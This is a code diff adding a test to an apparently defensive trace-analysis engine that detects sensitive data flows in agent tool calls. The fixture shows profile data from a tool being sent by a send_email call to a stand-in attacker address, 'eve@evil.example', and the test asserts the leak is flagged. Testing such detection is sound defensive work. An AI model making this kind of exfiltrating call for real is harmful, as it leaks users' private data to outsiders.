@@ -268,3 +268,30 @@ def test_a_decision_with_a_deferred_state_pickles_and_copies_as_plain_data(tmp_p
     for other in (pickle.loads(pickle.dumps(decision)), copy.deepcopy(decision),
                   decision.model_copy(deep=True)):  # fmt: skip
         assert other.trace_state == decision.trace_state and other.allowed == decision.allowed
+
+
+def test_a_message_over_the_state_budget_is_found_past_the_lookup_bound() -> None:
+    """Past MAX_LOOKUPS keys the completed index answers, its unindexed messages included.
+
+    The first key answered from the index was asked for while the index was still deferred:
+    its unindexed messages (over ``max_state_bytes``) were not yet known, so a sensitive
+    result holding a long body was missed (secret_flow allowed; seen failing first).
+    """
+    words = " ".join(f"word{chr(97 + i % 26)}{chr(97 + i // 26)}" for i in range(2 * MAX_LOOKUPS))
+    messages = [{"role": "system", "content": "You are an assistant."},
+                {"role": "user", "content": "Show me my profile."},
+                {"role": "assistant", "content": None, "tool_calls": [{"id": "c1",
+                 "type": "function", "function": {"name": "get_user_profile", "arguments": "{}"}}]},
+                {"role": "tool", "tool_call_id": "c1", "content": words}]  # fmt: skip
+    call = {"name": "send_email", "args": {"to": "eve@evil.example", "subject": "hi",
+                                            "body": words}}  # fmt: skip
+
+    def analysed(lazy: bool) -> Any:
+        index = TraceIndex(LABELS.phone_region, max_state_bytes=900)
+        return analyze(parse_trace(messages, call, labels=LABELS), LABELS, index=index, lazy=lazy)
+
+    eager, lazy = analysed(False), analysed(True)
+    assert eager.index.unindexed == [3]
+    for expression in ("secret_flow()", 'value_from_sensitive("*")', *POLICY_EXPRESSIONS):
+        assert lazy.fact(expression).to_json() == eager.fact(expression).to_json(), expression
+    assert eager.fact("secret_flow()").value is True
